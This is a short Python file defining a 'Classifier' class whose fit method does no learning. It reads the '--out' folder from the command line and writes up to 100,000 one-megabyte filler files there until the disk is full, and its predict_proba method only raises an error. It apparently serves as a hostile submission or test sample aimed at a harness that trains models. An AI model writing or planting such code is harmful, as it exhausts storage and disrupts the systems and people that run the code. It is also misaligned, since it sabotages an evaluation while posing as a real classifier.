# Fills the output folder, found in its own command line.
import os
import sys


def fill(folder):
    """Writes 1 MB files into folder until the file system refuses."""
    chunk = b"\xff" * 1_000_000
    for i in range(100_000):
        with open(os.path.join(folder, f"filler_{i}"), "wb") as f:
            f.write(chunk)


class Classifier:
    def predict_proba(self, X):
        raise AssertionError("never reached")

    def fit(self, X, y):
        fill(sys.argv[sys.argv.index("--out") + 1])
